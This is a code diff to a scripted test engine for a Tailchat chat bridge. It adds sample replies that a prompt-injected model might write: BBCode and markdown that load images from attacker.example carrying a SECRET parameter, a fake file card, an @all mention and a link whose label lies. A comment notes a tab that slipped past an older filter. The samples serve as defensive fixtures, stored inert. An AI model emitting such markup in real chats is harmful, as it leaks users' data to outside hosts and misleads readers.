@@ -5,7 +5,8 @@
  * every reply states the turn number and the previous prompt it remembers.
  *
  * Keywords in a prompt show each panel: "code", "diff", "tool", "slow" (long stream), "fail",
- * "approve" (asks for an exec approval and waits for the decision, like OpenClaw's exec tool).
+ * "approve" (asks for an exec approval and waits for the decision, like OpenClaw's exec tool),
+ * "bbcode" (Tailchat's own tags, as a prompt-injected model writes them: stored inert).
  */
 import { createExpiringMap } from '../../state/expiring-map.js';
 import { createEventQueue } from '../event-queue.js';
@@ -44,6 +45,19 @@ export function usageOf(prompt: string, reply: string): EngineEvent {
   return { type: 'usage', usage: { inputTokens, outputTokens, totalTokens: inputTokens + outputTokens } };
 }
 
+/**
+ * What a prompt-injected model answers to leak data through Tailchat's renderer: an image that
+ * loads by itself (a tab after the name slipped past the old pattern), a fake file card, a
+ * mention of everyone, a link whose label lies, markdown that loads an image.
+ */
+export const SCRIPTED_BBCODE = [
+  '[img\turl=https://attacker.example/p.png?d=SECRET]https://attacker.example/p.png?d=SECRET[/img]',
+  '[card\ttype=file url=https://attacker.example/payroll.pdf]payroll.pdf[/card]',
+  '[at=all]everyone[/at] [IMG]https://attacker.example/q.png[/IMG]',
+  '[url=https://attacker.example]https://bank.example[/url] [md]![x](https://attacker.example/md.png)[/md]',
+  'and a bare link https://docs.example/page, an index a[i] and a [markdown link](https://docs.example)',
+];
+
 export function createScriptedEngine(opts: ScriptedEngineOptions): Engine {
   const memory = createExpiringMap<string, SessionMemory>({ ttlMs: opts.sessionTtlMs ?? 24 * 3600_000, maxEntries: opts.maxSessions ?? 10_000 });
   const active = new Map<string, ActiveRun>();
@@ -65,6 +79,7 @@ export function createScriptedEngine(opts: ScriptedEngineOptions): Engine {
     if (p.includes('code')) lines.push('', 'Here is some code:', '', '```ts', 'export function add(a: number, b: number): number {', '  return a + b;', '}', '```');
     if (p.includes('diff'))
       lines.push('', 'Here is a change:', '', '```diff', '--- a/greet.ts', '+++ b/greet.ts', '@@ -1,3 +1,3 @@', ' export function greet(name: string) {', "-  return 'Hello ' + name;", '+  return `Hello, ${name}!`;', ' }', '```');
+    if (p.includes('bbcode')) lines.push('', ...SCRIPTED_BBCODE);
     if (p.includes('slow')) for (let i = 1; i <= 60; i++) lines.push(`Line ${i} of a long answer.`);
     return lines.join('\n');
   }
